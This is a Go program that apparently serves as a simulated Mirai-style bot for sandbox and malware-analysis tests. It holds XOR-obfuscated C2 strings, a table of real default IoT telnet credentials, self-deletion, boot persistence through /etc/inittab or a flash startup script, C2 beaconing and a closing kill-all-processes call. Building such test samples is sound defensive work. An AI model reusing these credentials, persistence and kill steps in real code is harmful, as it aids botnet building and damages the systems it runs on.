// Command mirai is a simulated Mirai-style bot for the sandbox and
// analysis tests: no real malware, only the behaviours the analysis must
// see through, after the public Mirai source. Its string table is XORed
// with 0x22 (0xdeadbeef folded) as table.c does, C2 and report server
// followed by 2-byte ports; its scanner table holds XORed, plain-NUL
// credential pairs. It resolves its C2 through a hard-coded 8.8.8.8, runs
// its real path only when started as ./dvrHelper (otherwise, like
// Mirai's unlock_tbl_if_nodebug, it talks to the decoy 65.222.202.53:80),
// binds 127.0.0.1:48101 as its single-instance lock, deletes itself, and
// ends with kill(-1, SIGKILL). Behaviour is chosen with -X main.mode=.
// All addresses are reached only as the sandbox's fake Internet.
package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"
	"strings"
	"syscall"
	"time"
)

var (
	mode = "mirai"
	self []byte // the bot's own bytes, read before it deletes itself
)

// table is table.c's layout in a C binary: each literal XORed with 0x22,
// text entries ended by an encoded NUL, every literal by its plain NUL.
const table = "\x00" +
	"\x41\x4c\x41\x0c\x40\x4d\x56\x0f\x56\x47\x51\x56\x0c\x4b\x4c\x54\x43\x4e\x4b\x46\x22\x00" + // cnc.bot-test.invalid
	"\x22\x35\x00" + // 23
	"\x50\x47\x52\x4d\x50\x56\x0c\x40\x4d\x56\x0f\x56\x47\x51\x56\x0c\x4b\x4c\x54\x43\x4e\x4b\x46\x22\x00" + // report.bot-test.invalid
	"\x99\xc7\x00" + // 48101
	"\x4e\x4b\x51\x56\x47\x4c\x4b\x4c\x45\x02\x56\x57\x4c\x12\x22\x00" + // listening tun0
	"\x0d\x52\x50\x4d\x41\x0d\x22\x00" + // /proc/
	"\x0d\x47\x5a\x47\x22\x00" + // /exe
	"\x0d\x40\x4b\x4c\x0d\x40\x57\x51\x5b\x40\x4d\x5a\x02\x6f\x6b\x70\x63\x6b\x22\x00" + // /bin/busybox MIRAI
	"\x6f\x6b\x70\x63\x6b\x18\x02\x43\x52\x52\x4e\x47\x56\x02\x4c\x4d\x56\x02\x44\x4d\x57\x4c\x46\x22\x00" + // MIRAI: applet not found
	"\x4c\x41\x4d\x50\x50\x47\x41\x56\x22\x00" + // ncorrect
	"\x0d\x46\x47\x54\x0d\x55\x43\x56\x41\x4a\x46\x4d\x45\x22\x00" + // /dev/watchdog
	"\x0d\x46\x47\x54\x0d\x4f\x4b\x51\x41\x0d\x55\x43\x56\x41\x4a\x46\x4d\x45\x22\x00" + // /dev/misc/watchdog
	"\x76\x71\x4d\x57\x50\x41\x47\x02\x67\x4c\x45\x4b\x4c\x47\x02\x73\x57\x47\x50\x5b\x22\x00" + // TSource Engine Query
	"\x0d\x47\x56\x41\x0d\x50\x47\x51\x4d\x4e\x54\x0c\x41\x4d\x4c\x44\x22\x00" + // /etc/resolv.conf
	"\x4c\x43\x4f\x47\x51\x47\x50\x54\x47\x50\x22\x00" // nameserver

// scanner is scanner.c's add_auth_entry literals: XORed with 0x22, ended
// by a plain NUL only.
const scanner = "\x00" +
	"\x50\x4d\x4d\x56\x00\x5a\x41\x11\x17\x13\x13\x00" + // root xc3511
	"\x50\x4d\x4d\x56\x00\x54\x4b\x58\x5a\x54\x00" + // root vizxv
	"\x50\x4d\x4d\x56\x00\x43\x46\x4f\x4b\x4c\x00" + // root admin
	"\x43\x46\x4f\x4b\x4c\x00\x43\x46\x4f\x4b\x4c\x00" + // admin admin
	"\x50\x4d\x4d\x56\x00\x1a\x1a\x1a\x1a\x1a\x1a\x00" + // root 888888
	"\x51\x57\x52\x52\x4d\x50\x56\x00\x51\x57\x52\x52\x4d\x50\x56\x00" + // support support
	"\x50\x4d\x4d\x56\x00\x00" + // root (none)
	"\x43\x46\x4f\x4b\x4c\x00\x15\x57\x48\x6f\x49\x4d\x12\x43\x46\x4f\x4b\x4c\x00" + // admin 7ujMko0admin
	"\x45\x57\x47\x51\x56\x00\x45\x57\x47\x51\x56\x00" // guest guest

// Strings a libc or a joke leaves in the binary (URLs nothing fetches),
// and the attack names, NUL-terminated as C literals are.
const plain = "\x00http://www.debian.org/Bugs/\x00https://youtu.be/dQw4w9WgXcQ\x00" +
	"udp\x00vse\x00dns\x00syn\x00ack\x00stomp\x00greeth\x00udpplain\x00http\x00"

func entry(i int) []byte {
	e := strings.Split(table[1:], "\x00")[i]
	b := []byte(e)
	for j := range b {
		b[j] ^= 0x22
	}
	return []byte(strings.TrimSuffix(string(b), "\x00"))
}

func main() {
	if len(os.Args) > 9 { // never: keeps the tables in the binary
		fmt.Print(scanner, plain)
	}
	// ensure_single_instance: the lock is a listener on loopback
	lock, err := net.Listen("tcp", "127.0.0.1:48101")
	if err == nil {
		defer lock.Close()
	}
	self, _ = os.ReadFile("/proc/self/exe")
	os.Remove(os.Args[0]) // unlink(args[0]), as Mirai does at start
	switch mode {
	case "mirai":
		run()
	case "inittab":
		persist("/etc/inittab", "::respawn:/etc/.mirai\n", "/etc/.mirai")
	case "jffs2":
		persist("/mnt/mtd/Config/dep2.sh", "#!/bin/sh\n/mnt/mtd/Config/.mirai &\n", "/mnt/mtd/Config/.mirai")
	}
	time.Sleep(200 * time.Millisecond)
	syscall.Kill(-1, syscall.SIGKILL)
}

func run() {
	cnc, port := string(entry(0)), int(binary.BigEndian.Uint16(entry(1)))
	addr := ""
	if os.Args[0] == "./dvrHelper" {
		if ip, err := resolve(cnc); err == nil {
			addr = net.JoinHostPort(ip.String(), fmt.Sprint(port))
		}
	}
	if addr == "" {
		// FAKE_CNC_ADDR:FAKE_CNC_PORT, tried as Mirai retries
		for range 3 {
			if c, err := net.DialTimeout("tcp", "65.222.202.53:80", time.Second); err == nil {
				c.Close()
			}
		}
		return
	}
	c, err := net.DialTimeout("tcp", addr, 2*time.Second)
	if err != nil {
		return
	}
	defer c.Close()
	id := ""
	if len(os.Args) > 1 {
		id = os.Args[1]
	}
	c.Write([]byte{0, 0, 0, 1})
	c.Write(append([]byte{byte(len(id))}, id...))
	// stay connected, as a bot waits for commands
	c.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 64)
	for {
		if _, err := c.Read(buf); err != nil {
			break
		}
	}
}

// resolve asks 8.8.8.8 over a connected UDP socket, as resolv.c does.
func resolve(name string) (net.IP, error) {
	c, err := net.Dial("udp", "8.8.8.8:53")
	if err != nil {
		return nil, err
	}
	defer c.Close()
	q := []byte{0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, l := range strings.Split(name, ".") {
		q = append(q, byte(len(l)))
		q = append(q, l...)
	}
	q = append(q, 0, 0, 1, 0, 1)
	c.SetDeadline(time.Now().Add(2 * time.Second))
	if _, err := c.Write(q); err != nil {
		return nil, err
	}
	b := make([]byte, 512)
	n, err := c.Read(b)
	if err != nil {
		return nil, err
	}
	if n < len(q)+16 || b[0] != 0x13 || b[1] != 0x37 || binary.BigEndian.Uint16(b[6:]) == 0 {
		return nil, errors.New("no answer")
	}
	return net.IP(b[n-4 : n]), nil
}

// persist writes the bot to flash and registers it to start at boot; a
// copy that already runs from there reports to its C2 instead.
func persist(file, content, bin string) {
	if exe, _ := os.Executable(); exe == bin || os.Args[0] == bin {
		if c, err := net.DialTimeout("tcp", "198.51.100.77:6667", 2*time.Second); err == nil {
			c.Write([]byte("NICK restarted\r\n"))
			c.Close()
		}
		return
	}
	if err := os.WriteFile(bin, self, 0o755); err != nil {
		fmt.Println("write:", err)
		return
	}
	old, _ := os.ReadFile(file)
	if err := os.WriteFile(file, append(old, content...), 0o755); err != nil {
		fmt.Println("write:", err)
	}
}
